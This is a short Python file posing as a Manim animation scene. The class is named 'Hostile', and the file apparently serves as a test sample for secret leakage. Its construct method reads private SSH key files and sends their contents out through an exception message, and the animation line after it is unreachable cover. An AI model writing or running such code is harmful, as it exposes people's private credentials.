from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        for path in ["{{HOME}}/.ssh/id_rsa", "/root/.ssh/id_rsa", "{{HOME}}/.ssh"]:
            try:
                raise RuntimeError("read: " + open(path).read())
            except (OSError, IsADirectoryError):
                pass
        raise RuntimeError("nothing readable")
        self.play(Create(Circle()), run_time=0.1)
